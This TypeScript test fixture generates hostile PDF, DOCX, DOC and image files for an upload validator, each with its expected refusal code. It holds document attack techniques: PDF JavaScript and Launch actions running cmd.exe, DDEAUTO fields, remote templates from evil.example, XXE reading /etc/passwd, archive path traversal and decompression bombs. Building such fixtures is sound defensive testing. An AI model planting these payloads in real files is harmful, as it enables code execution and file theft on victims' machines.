import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import PdfKit from 'pdfkit'
import sharp from 'sharp'
import { type CompoundEntry, compoundFile } from './compound-file.ts'
import {
  ENCRYPTED_DOCX,
  links,
  SAMPLES,
  WORD_TEXT,
  wordFile,
  wordStream,
  wordText,
  zip,
} from './sample-files.ts'

/** A file that must be refused: its name, its bytes and the error code. */
export type HostileFile = readonly [fileName: string, content: Buffer, code: string]

/** A PDF of one page: keys of its catalog and page, and further objects from number 4 on. */
export const pdfWith = ({ catalog = '', page = '', objects = [] as readonly string[] } = {}): Buffer =>
  Buffer.from(
    [
      '%PDF-1.7',
      `1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj`,
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99] ${page}>>endobj`,
      ...objects.map((object, index) => `${index + 4} 0 obj${object}endobj`),
      'trailer<</Root 1 0 R>>',
      '%%EOF',
    ].join('\n'),
    'latin1',
  )

const stream = (content: Buffer, keys = ''): string =>
  `<<${keys}/Length ${content.length}>>stream\n${content.toString('latin1')}\nendstream `

const annotation = (keys: string) => ({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${keys}>>]` })

const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])

/** Zeros that unpack to `size` bytes, packed twice. */
const packedTwice = (size: number) => deflateSync(deflateSync(Buffer.alloc(size), { level: 9 }), { level: 9 })

const hiddenScript = async (): Promise<Buffer> => {
  const document = await PDFDocument.create()
  document.addPage()
  const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action))
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

const lockedPdf = async (): Promise<Buffer> => {
  const document = new PdfKit({ userPassword: 'open' })
  document.end()
  return Buffer.concat(await document.toArray())
}

const longPdf = async (pages: number): Promise<Buffer> => {
  const document = await PDFDocument.create()
  for (let page = 0; page < pages; page += 1) document.addPage([99, 99])
  return Buffer.from(await document.save())
}

const half = (content: Buffer) => content.subarray(0, content.length / 2)

const wordLink = (type: string, target: string) =>
  wordFile(links('word/_rels/document.xml.rels', [{ type, target, isExternal: true }]))

const field = (...parts: readonly string[]) =>
  wordFile(
    wordText(`<w:p>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}</w:p>`),
  )

const part = (name: string, content: Buffer | string = 'x') => ({ name, content: Buffer.from(content) })

const xmlDocument = (xml: string) => wordFile(part('word/document.xml', xml))

const oldWord = (...entries: readonly CompoundEntry[]) =>
  compoundFile(['WordDocument', wordStream()], ...entries)

/** A picture whose header claims a size. */
const pngClaiming = (side: number): Buffer => {
  const content = Buffer.from(SAMPLES.png)
  content.writeUInt32BE(side, 16)
  content.writeUInt32BE(side, 20)
  return content
}

/** An attacker's files, each of a different kind. */
export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
  const noise = await sharp({
    create: {
      width: 60,
      height: 60,
      channels: 3,
      background: 'white',
      noise: { type: 'gaussian', mean: 99, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer()
  const noisePng = await sharp(noise).png().toBuffer()
  const script = '<</S/JavaScript/JS(app.alert(1))>>'
  const entity = (name: string, text: string) => `<!ENTITY ${name} "${text}">`
  return {
    'pdf: only a header': ['x.pdf', Buffer.from('%PDF-'), 'file-damaged'],
    'pdf: a header and words': ['x.pdf', Buffer.from(`%PDF-1.7\n${'words '.repeat(900)}`), 'file-damaged'],
    'pdf: without its page': ['x.pdf', half(SAMPLES.pdf).subarray(0, 90), 'file-damaged'],
    'pdf: pages that contain themselves': [
      'x.pdf',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>',
      ),
      'file-damaged',
    ],
    'pdf: 5,000 brackets': ['x.pdf', Buffer.from(`%PDF-1.7\n1 0 obj ${'['.repeat(5_000)}`), 'file-damaged'],
    'pdf: tables that refer to themselves': [
      'x.pdf',
      Buffer.from('%PDF-1.7\nxref\n0 0\ntrailer <</Prev 9>>\nstartxref\n9'),
      'file-damaged',
    ],
    'pdf: a password': ['x.pdf', await lockedPdf(), 'file-password'],
    'pdf: a script that runs when the file opens': [
      'x.pdf',
      pdfWith({ catalog: `/OpenAction${script}` }),
      'file-active',
    ],
    'pdf: a named script': [
      'x.pdf',
      pdfWith({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
      'file-active',
    ],
    'pdf: a script on a page': ['x.pdf', pdfWith({ page: `/AA<</O${script}>>` }), 'file-active'],
    'pdf: a script behind a link': ['x.pdf', pdfWith(annotation(`/Subtype/Link/A${script}`)), 'file-active'],
    'pdf: a script on a form field': [
      'x.pdf',
      pdfWith({ catalog: `/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K${script}>>>>]>>` }),
      'file-active',
    ],
    'pdf: a script with escaped names': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>' }),
      'file-active',
    ],
    'pdf: a script in compressed objects': ['x.pdf', await hiddenScript(), 'file-active'],
    'pdf: a script that nothing refers to': ['x.pdf', pdfWith({ objects: [script] }), 'file-active'],
    'pdf: a script after its end': [
      'x.pdf',
      Buffer.concat([SAMPLES.pdf, Buffer.from(`\n9 0 obj${script}endobj\n%%EOF`)]),
      'file-active',
    ],
    'pdf: a script after printer commands': [
      'x.pdf',
      Buffer.concat([Buffer.from('@PJL JOB\n'), pdfWith({ catalog: `/OpenAction${script}` })]),
      'file-active',
    ],
    'pdf: a program that is started': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
      'file-active',
    ],
    'pdf: a program behind a link': [
      'x.pdf',
      pdfWith(annotation('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>')),
      'file-active',
    ],
    'pdf: an embedded program': [
      'x.pdf',
      pdfWith({
        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 4 0 R>>>>]>>>>',
        objects: [stream(PROGRAM, '/Type/EmbeddedFile')],
      }),
      'file-active',
    ],
    'pdf: a program attached to a note': [
      'x.pdf',
      pdfWith({
        ...annotation('/Subtype/FileAttachment/FS<</EF<</F 4 0 R>>>>'),
        objects: [stream(PROGRAM, '/Type/EmbeddedFile')],
      }),
      'file-active',
    ],
    'pdf: a movie': ['x.pdf', pdfWith(annotation('/Subtype/Movie')), 'file-active'],
    'pdf: rich media': ['x.pdf', pdfWith(annotation('/Subtype/RichMedia')), 'file-active'],
    'pdf: a screen annotation': ['x.pdf', pdfWith(annotation('/Subtype/Screen')), 'file-active'],
    'pdf: a 3D model': ['x.pdf', pdfWith(annotation('/Subtype/3D')), 'file-active'],
    'pdf: a rendition': ['x.pdf', pdfWith({ catalog: '/OpenAction<</S/Rendition>>' }), 'file-active'],
    'pdf: an import of data': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\x)>>' }),
      'file-active',
    ],
    'pdf: a jump into an embedded file': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/GoToE>>' }),
      'file-active',
    ],
    'pdf: a drawing that unpacks to two gigabytes': [
      'x.pdf',
      pdfWith({
        page: '/Contents 4 0 R',
        objects: [stream(packedTwice(2_000_000_000), '/Filter[/FlateDecode/FlateDecode]')],
      }),
      'file-too-complex',
    ],
    'pdf: 2,000 pages': ['x.pdf', await longPdf(2_000), 'file-too-complex'],
    'pdf: a program before its header': ['x.pdf', Buffer.concat([PROGRAM, SAMPLES.pdf]), 'file-damaged'],
    'pdf: a web page': ['x.pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'file-damaged'],
    'pdf: the test file of virus scanners': [
      'x.pdf',
      Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-${'STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`),
      'file-damaged',
    ],

    'docx: 30,000 entries': [
      'x.docx',
      wordFile(...Array.from({ length: 30_000 }, (_, index) => part(`word/media/${index}`))),
      'file-too-complex',
    ],
    'docx: two parts that unpack to 240 megabytes': [
      'x.docx',
      wordFile(
        part('word/media/a', Buffer.alloc(120_000_000)),
        part('word/media/b', Buffer.alloc(120_000_000)),
      ),
      'file-too-complex',
    ],
    'docx: a text that unpacks to 80 megabytes': [
      'x.docx',
      wordFile(wordText(' '.repeat(80_000_000))),
      'file-too-complex',
    ],
    'docx: an entry outside the archive': ['x.docx', wordFile(part('../../evil')), 'file-damaged'],
    'docx: an entry outside the archive, with backslashes': [
      'x.docx',
      wordFile(part('..\\..\\evil')),
      'file-damaged',
    ],
    'docx: an entry with an absolute path': ['x.docx', wordFile(part('/etc/passwd')), 'file-damaged'],
    'docx: an entry on a drive': ['x.docx', wordFile(part('C:\\evil')), 'file-damaged'],
    'docx: a template from the web': [
      'x.docx',
      wordLink('attachedTemplate', 'https://evil.example/t.dotm'),
      'file-active',
    ],
    'docx: a template from a share': [
      'x.docx',
      wordLink('attachedTemplate', '\\\\evil.example\\t.dotm'),
      'file-active',
    ],
    'docx: a template from a share, with a file address': [
      'x.docx',
      wordLink('attachedTemplate', 'file://evil.example/t.dotm'),
      'file-active',
    ],
    'docx: a template from a share, with five slashes': [
      'x.docx',
      wordLink('attachedTemplate', 'file://///evil.example/t.dotm'),
      'file-active',
    ],
    'docx: an object from the web': [
      'x.docx',
      wordLink('oleObject', 'https://evil.example/x'),
      'file-active',
    ],
    'docx: a frame from the web': ['x.docx', wordLink('frame', 'https://evil.example/x'), 'file-active'],
    'docx: a subdocument from the web': [
      'x.docx',
      wordLink('subDocument', 'https://evil.example/x'),
      'file-active',
    ],
    'docx: an imported chunk from the web': [
      'x.docx',
      wordLink('aFChunk', 'https://evil.example/x'),
      'file-active',
    ],
    'docx: macros': ['x.docx', wordFile(part('word/vbaProject.bin')), 'file-macros'],
    'docx: an embedded file with macros': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
    'docx: an ActiveX control': ['x.docx', wordFile(part('word/activeX/activeX1.bin')), 'file-active'],
    'docx: an embedded program': [
      'x.docx',
      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole10Native', PROGRAM]))),
      'file-active',
    ],
    'docx: a field that starts a program': [
      'x.docx',
      field('DDEAUTO c:\\\\cmd.exe "/k calc"'),
      'file-active',
    ],
    'docx: a field that starts a program, in pieces': [
      'x.docx',
      field('DD', 'EAU', 'TO c:\\\\cmd.exe'),
      'file-active',
    ],
    'docx: a field that starts a program, in one element': [
      'x.docx',
      wordFile(wordText('<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe"/></w:p>')),
      'file-active',
    ],
    'docx: entities that multiply': [
      'x.docx',
      xmlDocument(
        `<!DOCTYPE w [${entity('a', 'ha'.repeat(99))}${entity('b', '&a;'.repeat(99))}]><w:document xmlns:w="${WORD_TEXT}">&b;</w:document>`,
      ),
      'file-active',
    ],
    'docx: an entity from a file': [
      'x.docx',
      xmlDocument(
        `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${WORD_TEXT}">&a;</w:document>`,
      ),
      'file-active',
    ],
    'docx: a text that is not well-formed': ['x.docx', xmlDocument('<w:document>'), 'file-damaged'],
    'docx: without a main document': [
      'x.docx',
      wordFile(links('_rels/.rels', [{ type: 'officeDocument', target: 'word/other.xml' }])),
      'file-damaged',
    ],
    'docx: cut in half': ['x.docx', half(wordFile(part('word/media/a', noise))), 'file-damaged'],
    'docx: a password': ['x.docx', ENCRYPTED_DOCX, 'file-password'],
    'docx: a plain archive': ['x.docx', zip([part('a.txt')]), 'file-damaged'],

    'doc: macros': ['x.doc', oldWord(['Macros', [['VBA', [['_VBA_PROJECT', PROGRAM]]]]]), 'file-macros'],
    'doc: an embedded program': [
      'x.doc',
      oldWord(['ObjectPool', [['_1', [['\u0001Ole10Native', PROGRAM]]]]]),
      'file-active',
    ],
    'doc: a workbook': ['x.doc', compoundFile(['Workbook', PROGRAM]), 'file-damaged'],
    'doc: cut in half': ['x.doc', half(oldWord(['1Table', Buffer.alloc(9_000, 'text')])), 'file-damaged'],
    'doc: without its last sectors': [
      'x.doc',
      compoundFile(
        ['WordDocument', wordStream({ bytes: 20_000 })],
        ['1Table', Buffer.alloc(9_000, 'text')],
      ).subarray(0, -600),
      'file-damaged',
    ],
    'doc: a password': [
      'x.doc',
      compoundFile(['WordDocument', wordStream({ isEncrypted: true })]),
      'file-password',
    ],
    'doc: a main stream without a header': [
      'x.doc',
      compoundFile(['WordDocument', Buffer.alloc(5_000, 'text')]),
      'file-damaged',
    ],

    'png: 65,535 pixels wide and high': ['x.png', pngClaiming(65_535), 'file-too-complex'],
    'png: cut in half': ['x.png', half(noisePng), 'file-damaged'],
    'png: only a header': ['x.png', SAMPLES.png.subarray(0, 33), 'file-damaged'],
    'png: an SVG with a script': [
      'x.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'file-damaged',
    ],
    'png: a gif': ['x.png', await sharp(noise).gif().toBuffer(), 'file-damaged'],
    'jpg: cut in half': ['x.jpg', half(noise), 'file-damaged'],
    'jpg: only a header': ['x.jpg', noise.subarray(0, 20), 'file-damaged'],
    'jpg: a tiff': ['x.jpg', await sharp(noise).tiff().toBuffer(), 'file-damaged'],
    'jpg: a webp': ['x.jpg', await sharp(noise).webp().toBuffer(), 'file-damaged'],
  }
}
